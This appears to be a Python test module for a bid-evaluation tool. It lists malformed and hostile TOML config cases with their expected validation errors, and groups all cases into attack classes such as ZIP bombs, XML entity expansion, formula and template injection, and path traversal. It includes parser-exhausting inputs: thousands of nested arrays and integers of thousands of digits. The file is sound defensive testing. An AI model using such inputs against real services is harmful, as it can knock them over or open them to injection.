    number = "must be a number"
    return [
        # every field with a value of the wrong type or out of range
        w("format-text", "format = 1", 'format = "1"', "format", "must be a whole number"),
        w("format-2", "format = 1", "format = 2", "format", "reads format 1"),
        w("id-number", 'id = "RFP-2027-001"', "id = 5", "id", text_),
        w("id-spaces", 'id = "RFP-2027-001"', 'id = "RFP 2027/001"', "id", "is not valid"),
        w("title-number", 'title = "Customer-service hotline outsourcing"', "title = 1", "title", text_),
        w("title-empty", 'title = "Customer-service hotline outsourcing"', 'title = "  "', "title",
          "must not be empty"),
        w("buyer-list", 'buyer = "Example Retail Ltd."', "buyer = []", "buyer", text_),
        w("category-unknown", 'category = "BPO"', 'category = "BOP"', "category", "did you mean 'BPO'"),
        w("currency-lower-case", 'currency = "CNY"', 'currency = "cny"', "currency", "3-letter ISO 4217 code"),
        w("language-unknown", 'language = "en"', 'language = "fr"', "language", "must be one of"),
        w("profile-number", 'profile = "generic"', "profile = 3", "profile", text_),
        w("contract-value-text", "contract_value = 1_200_000", 'contract_value = "1.2M"', "contract_value", number),
        w("contract-value-negative", "contract_value = 1_200_000", "contract_value = -5", "contract_value",
          "must be > 0"),
        w("contract-value-nan", "contract_value = 1_200_000", "contract_value = nan", "contract_value",
          "must be a finite number"),
        w("budget-boolean", "budget_ceiling = 1_500_000", "budget_ceiling = true", "budget_ceiling",
          "got true (a boolean)"),
        w("two-envelope-text", "two_envelope = false", 'two_envelope = "no"', "two_envelope", "must be true or false"),
        t("decimal-comma-number", _replace("two_envelope = false", "two_envelope = false\ndecimal_comma = 1"),
          (e("decimal_comma = 1", "decimal_comma", "must be true or false"),)),
        w("deadline-quoted", "bid_deadline = 2027-01-29T17:00:00+08:00", 'bid_deadline = "2027-01-29"',
          "timeline.bid_deadline", "write it without quotes"),
        w("issue-date-time-of-day", "issue_date = 2027-01-04", "issue_date = 12:00:00", "timeline.issue_date",
          "a time of day"),
        w("issue-date-with-time", "issue_date = 2027-01-04", "issue_date = 2027-01-04T09:00:00",
          "timeline.issue_date", "must be a date (YYYY-MM-DD)"),
        w("deadline-before-issue", "bid_deadline = 2027-01-29T17:00:00+08:00",
          "bid_deadline = 2026-01-29T17:00:00+08:00", "timeline.bid_deadline", "is before"),
        w("weight-text", "weight = 60", 'weight = "60"', "criteria.technical.weight", number),
        w("weight-negative", "weight = 25", "weight = -25", "criteria.technical.approach.weight", "must be > 0"),
        w("weight-infinite", "weight = 25", "weight = inf", "criteria.technical.approach.weight", "finite"),
        w("scale-reversed", "scale = [0, 10]", "scale = [10, 0]", "criteria.technical.approach.scale",
          "lowest < highest"),
        w("scale-text", "scale = [0, 10]", 'scale = "0-10"', "criteria.technical.approach.scale", "[lowest, highest]"),
        w("direction-unknown", 'direction = "cost"', 'direction = "cheaper"', "criteria.price.direction",
          "must be one of"),
        w("source-unknown", 'source = "price"', 'source = "pricing"', "criteria.price.source", "did you mean"),
        w("guidance-number", 'guidance = "Experience of the proposed leads, staffing model, attrition plan."',
          "guidance = 5", "criteria.technical.team.guidance", text_),
        w("gate-kind-unknown", 'kind = "min_years"', 'kind = "min_yeers"', "gates.years.kind", "did you mean"),
        w("gate-option-wrong-type", "years = 3", 'years = "three"', "gates.years.years", "must be"),
        w("gate-on-fail-unknown", 'on_fail = "review"', 'on_fail = "maybe"', "gates.abnormally_low.on_fail",
          "must be one of"),
        t("gate-not-a-table", _append('[gates]\nbroken = 5\n'),
          (e("broken = 5", "gates.broken", "must be a table describing the gate"),)),
        w("quantity-text", "quantity = 12", 'quantity = "12"', "pricing.items[1].quantity", number),
        w("item-unit-number", 'unit = "month"', "unit = 5", "pricing.items[1].unit", text_),
        w("mandatory-text", "mandatory = true", 'mandatory = "yes"', "questionnaire[1].mandatory",
          "must be true or false"),
        w("choices-text", 'choices = ["Yes", "No", "Partly"]', 'choices = "Yes, No"', "questionnaire[3].choices",
          "must be a list of text"),
        w("required-answer-not-a-choice", 'required_answer = "Yes"', 'required_answer = "Sure"',
          "questionnaire[1].required_answer", "is not one of the choices"),
        w("evaluator-id-number", 'id = "E1"', "id = 1", "evaluators[1].id", text_),
        w("method-unknown", 'method = "weighted-sum"', 'method = "weighted-summ"', "scoring.method", "did you mean"),
        w("normalization-unknown", 'normalization = "min-max"', 'normalization = "zscore"',
          "scoring.normalization", "must be one of"),
        w("tie-break-text", "tie_break = [", "tie_break = 5 #", "scoring.tie_break", "must be a list of text",
          marker="tie_break = 5"),
        w("outlier-threshold-negative", "outlier_threshold = 2.0", "outlier_threshold = -1",
          "scoring.outlier_threshold", "must be >= 0"),
        w("shortlist-top-text", "top = 2", 'top = "2"', "shortlist.top", "must be a whole number"),
        w("shortlist-top-zero", "top = 2", "top = 0", "shortlist.top", "must be >= 1"),
        w("trial-enabled-text", "enabled = true", 'enabled = "yes"', "trial.enabled", "must be true or false"),
        w("window-fraction", "window_days = 14", "window_days = 1.5", "trial.window_days", "must be a whole number"),
        w("preset-unknown", 'preset = "hotline"', 'preset = "hotlines"', "trial.preset", "did you mean"),
        w("standstill-negative", "standstill_days = 10", "standstill_days = -1", "award.standstill_days",
          "must be >= 0"),
        t("plugins-disable-text", _append("[plugins]\ndisable = \"x\"\n"),
          (e("disable =", "plugins.disable", "must be a list of text"),)),
        t("kpi-target-text", _append('[trial.kpis.csat]\nname = "CSAT"\ntarget = "80"\n'),
          (e('target = "80"', "trial.kpis.csat.target", number),)),
        # weights that do not add up
        w("sub-weights-do-not-add-up", "weight = 15", "weight = 10", "criteria.technical.weight",
          "sub-criteria's weights add up to 55", marker="weight = 60"),
        w("top-weights-do-not-add-up", "weight = 40", "weight = 30", "criteria",
          "the top-level weights add up to 90", marker="__none__"),
        t("award-weights-do-not-add-up", _append("[scoring.award]\nevaluation = 0.5\nprice = 0.2\n"), ()),
        # duplicate ids
        t("criterion-id-twice", _replace("[criteria.technical.experience]", "[criteria.technical.technical]"),
          (e("[criteria.technical.technical]", "criteria.technical.technical", "is used twice"),)),
        t("toml-key-twice", _replace("weight = 60", "weight = 60\nweight = 61"),
          (e("weight = 61", None, "not valid TOML"),)),
        t("toml-table-twice", _append('[criteria.price]  # again\nname = "Again"\n'),
          (e("# again", None, "not valid TOML"),)),
        w("line-item-id-twice", 'id = "L2"', 'id = "L1"', "pricing.items[2].id", "is used twice",
          marker="__second_L1__"),
        w("question-id-twice", 'id = "Q2"', 'id = "Q1"', "questionnaire[2].id", "is used twice",
          marker="__second_Q1__"),
        w("evaluator-id-twice", 'id = "E2"', 'id = "E1"', "evaluators[2].id", "is used twice",
          marker="__second_E1__"),
        # unknown keys, with "did you mean"
        t("unknown-top-key", _replace("format = 1", 'format = 1\ntitel = "x"'),
          (e("titel =", "titel", "unknown key 'titel' (did you mean 'title'?)"),)),
        w("unknown-table", "[timeline]", "[timline]", "timline", "did you mean 'timeline'"),
        w("unknown-timeline-key", "bid_deadline = 2027-01-29T17:00:00+08:00",
          "bid_deadlin = 2027-01-29T17:00:00+08:00", "timeline.bid_deadlin", "did you mean 'bid_deadline'"),
        w("unknown-criterion-key", "weight = 25", "wieght = 25", "criteria.technical.approach.wieght",
          "did you mean 'weight'"),
        w("unknown-item-key", "quantity = 12", "quantitiy = 12", "pricing.items[1].quantitiy",
          "did you mean 'quantity'"),
        w("unknown-question-key", "mandatory = true", "mandatroy = true", "questionnaire[1].mandatroy",
          "did you mean 'mandatory'"),
        w("unknown-scoring-key", 'normalization = "min-max"', 'normalisation = "min-max"',
          "scoring.normalisation", "did you mean 'normalization'"),
        w("unknown-shortlist-key", "min_score = 60", "min_scor = 60", "shortlist.min_scor",
          "did you mean 'min_score'"),
        w("unknown-award-key", "standstill_days = 10", "standstill = 10", "award.standstill",
          "did you mean 'standstill_days'"),
        w("unknown-tie-break", '"submitted_at"', '"submited_at"', "scoring.tie_break", "did you mean 'submitted_at'",
          marker="tie_break"),
        # not TOML at all
        t("prose", lambda text: "This is the RFP for the hotline.\nPlease read it carefully.\n",
          (e("This is", None, "not valid TOML"),)),
        t("unclosed-string", _replace('buyer = "Example Retail Ltd."', 'buyer = "Example Retail Ltd.'),
          (e('buyer = "Example', None, "not valid TOML"),)),
        t("unclosed-array", _append("x = [1, 2,\n"), (e("__last__", None, "not valid TOML"),)),
        t("json", lambda text: '{"id": "RFP-1", "title": "x"}\n', (e('{"id"', None, "not valid TOML"),)),
        t("yaml", lambda text: "id: RFP-1\ntitle: x\ncriteria:\n  - name: price\n",
          (e("id: RFP-1", None, "not valid TOML"),)),
        t("nul-byte", _replace('title = "Customer', 'title = "Cus\x00tomer'), (e("title =", None, "not valid TOML"),)),
        # binary files
        t("random-bytes", lambda text: _RANDOM_BYTES[:4096], (e(None, None, "is not UTF-8 text"),)),
        t("png", lambda text: b"\x89PNG\r\n\x1a\n" + bytes(200), (e(None, None, "is not UTF-8 text"),)),
        t("utf16", lambda text: text.encode("utf-16"), (e(None, None, "is not UTF-8 text"),)),
        t("gbk", lambda text: text.replace("Example Retail Ltd.", "华东优选连锁超市").encode("gbk"),
          (e("华东优选", None, "is not UTF-8 text"),)),
        t("zip", lambda text: xe.zip_of({"rfp.toml": text.encode()}), (e(None, None, "is not UTF-8 text"),)),
        t("empty", lambda text: "", (e(None, "id", "is required"), e(None, "timeline.bid_deadline", "is required"))),
        # built to exhaust the parser or the checks
        t("deeply-nested-array", _append("x = " + "[" * 5000 + "]" * 5000 + "\n"),
          (e(None, None, ""),), about="5,000 nested arrays"),
        t("deeply-nested-inline-table", _append("x = " + "{a=" * 2000 + "1" + "}" * 2000 + "\n"),
          (e(None, None, ""),), about="2,000 nested inline tables"),
        w("integer-400-digits", "contract_value = 1_200_000", "contract_value = 1" + "0" * 400, "contract_value",
          "", marker="contract_value ="),
        w("integer-5000-digits", "contract_value = 1_200_000", "contract_value = 1" + "0" * 5000, "contract_value",
          "", marker="contract_value ="),
        w("weight-400-digits", "weight = 25", "weight = 1" + "0" * 400, "criteria.technical.approach.weight",
          "", marker="weight = 1000"),
        w("scale-infinite", "scale = [0, 10]", "scale = [0, inf]", "criteria.technical.approach.scale", ""),
    ]


#: TOML cases whose expected line is computed specially (see :func:`toml_expectations`).
def toml_expectations(case: TomlCase, text: str) -> list[tuple[int | None, str | None, str]]:
    """(line, field, fragment) for each expected problem of ``case`` in the mutated ``text``."""
    lines = text.splitlines()

    def line_of(marker: str | None) -> int | None:
        if marker is None:
            return None
        if marker == "__last__":
            return len(lines)
        if marker.startswith("__second_"):
            wanted = f'id = "{marker[9:-2]}"'
            found = [n for n, line in enumerate(lines, 1) if line.strip().startswith(wanted)]
            return found[1]
        for number, line in enumerate(lines, start=1):
            if marker in line and not line.lstrip().startswith("#"):
                return number
        return None

    special = {
        "award-weights-do-not-add-up": [(line_of("[scoring.award]"), "scoring.award",
                                         "the award weights add up to 0.7")],
        "top-weights-do-not-add-up": [(line_of("[criteria]"), "criteria", "the top-level weights add up to 90")],
    }
    if case.name in special:
        return special[case.name]
    return [(line_of(x.marker), x.field, x.fragment) for x in case.expect]


# ---------------------------------------------------------------------------
# Counting
# ---------------------------------------------------------------------------


def all_cases() -> list[BidCase | TomlCase]:
    return [*bid_cases(), *toml_cases()]


def counts(cases: Sequence[BidCase | TomlCase] | None = None) -> dict[str, int]:
    """Cases per class: ``{"file": .., "content": .., "text": .., "toml": .., "total": ..}``."""
    found = Counter(case.klass for case in (cases if cases is not None else all_cases()))
    result = {klass: found[klass] for klass in ("file", "content", "text", "toml")}
    result["total"] = sum(result.values())
    return result


#: Groups within the classes, for docs/reliability.md: (class, group, pattern on the case name).
GROUPS: tuple[tuple[str, str, str], ...] = (
    ("file", "damaged or cut short", r"truncated-|bad-crc|malformed-"),
    ("file", "ZIP bombs, too many parts or sheets", r"zip-bomb|members-|sheets-"),
    ("file", "XML entity expansion and external entities",
     r"billion-|external-entity|external-dtd|parameter-|doctype-"),
    ("file", "huge cells and numbers", r"1000000-chars|-digits$"),
    ("file", "macros, external links, lying dimensions (accepted)", r"xlsm-|macro-sheet|external-links|lying-|stray-"),
    ("file", "not a workbook (empty, CSV, HTML, .xls, encrypted, PDF, ...)", r".*"),
    ("content", "dates in common formats (accepted)", r"^date-"),
    ("content", "numbers as typed: separators, currency, full-width, locale", r"^number-"),
    ("content", "company fields with wrong values", r"vendor-name|registration|year-|capital|turnover|headcount|"
                                                    r"email|error-value"),
    ("content", "certificates with wrong values", r"expiry-|certificate-"),
    ("content", "questionnaire answers", r"answer-|mandatory-|requirement-"),
    ("content", "missing, renamed, reordered or merged sheets, columns and cells", r"sheet-|metadata-|header|"
                                                                                  r"columns-|merged"),
    ("content", "prices, formulas, hidden rows, rows below the total", r".*"),
    ("text", "formula and DDE injection", r"formula-"),
    ("text", "template injection", r"template-"),
    ("text", "HTML, SVG and Markdown injection", r"html-|svg-|img-|markdown-"),
    ("text", "path traversal and device names", r"path-|device-"),
    ("text", "bidi overrides, zero-width, long, Chinese, line breaks, quotes", r".*"),
    ("toml", "not TOML, binary or wrongly encoded", r"prose|unclosed|json|yaml|nul-byte|random-bytes|png|utf16|gbk|"
                                                   r"^zip$|^empty$|deeply-nested|toml-"),
    ("toml", "weights that do not add up, duplicate ids", r"add-up|twice"),
    ("toml", "unknown keys (with \"did you mean\")", r"^unknown-"),
    ("toml", "every field with a value of the wrong type or range", r".*"),
)


def group_of(case: BidCase | TomlCase) -> str:
    import re

    return next(group for klass, group, pattern in GROUPS if klass == case.klass and re.search(pattern, case.name))


def group_counts() -> dict[tuple[str, str], int]:
    found = Counter((case.klass, group_of(case)) for case in all_cases())
    return {(klass, group): found[(klass, group)] for klass, group, _ in GROUPS}


def refused_and_accepted() -> dict[str, tuple[int, int]]:
    out: dict[str, tuple[int, int]] = {}
    for klass in ("file", "content", "text"):
        cases = [c for c in bid_cases() if c.klass == klass]
        out[klass] = (sum(1 for c in cases if not c.accepted), sum(1 for c in cases if c.accepted))
    return out


if __name__ == "__main__":  # pragma: no cover - a report for docs/reliability.md
    for klass, number in counts().items():
        print(f"{klass:8} {number}")
    for klass, (refused, accepted) in refused_and_accepted().items():
        print(f"{klass:8} refused {refused}, accepted {accepted}")
    print(f"text payloads {len(TEXT_PAYLOADS)}")
    for (klass, group), number in group_counts().items():
        print(f"{klass:8} {number:4}  {group}")
    _ = Decimal  # keep the import for doctests of values
